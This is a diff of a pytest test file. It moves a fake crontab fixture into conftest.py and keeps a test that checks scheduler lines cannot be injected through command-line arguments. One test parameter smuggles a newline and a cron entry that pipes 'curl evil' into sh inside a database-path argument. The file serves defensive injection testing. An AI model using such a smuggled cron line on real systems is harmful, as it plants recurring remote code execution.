@@ -148,21 +148,7 @@ def test_control_characters_from_the_server_are_escaped(httpserver, tmp_path):
     assert "\\x1b[31mpro" in collected.stdout
 
 
-# -- a scheduler line cannot be injected --------------------------------------------------------------------
-
-
-@pytest.fixture
-def fake_crontab(tmp_path, monkeypatch):
-    bin_dir = tmp_path / "bin"
-    bin_dir.mkdir()
-    script = bin_dir / "crontab"
-    script.write_text('#!/bin/sh\nif [ "$1" = "-l" ]; then cat "$FAKE_CRONTAB" 2>/dev/null; exit 0; fi\n'
-                      'cat > "$FAKE_CRONTAB"\n')
-    script.chmod(0o755)
-    monkeypatch.setenv("PATH", f"{bin_dir}{os.pathsep}{os.environ['PATH']}")
-    monkeypatch.setenv("FAKE_CRONTAB", str(tmp_path / "crontab.txt"))
-    (tmp_path / "crontab.txt").write_text("0 3 * * * /usr/bin/backup\n")
-    return tmp_path / "crontab.txt"
+# -- a scheduler line cannot be injected (fake_crontab: conftest.py) -------------------------------------------
 
 
 @pytest.mark.parametrize("args", [["--db", "x.db\n* * * * * curl evil | sh"], ["--account-dir", "a\rb"]])
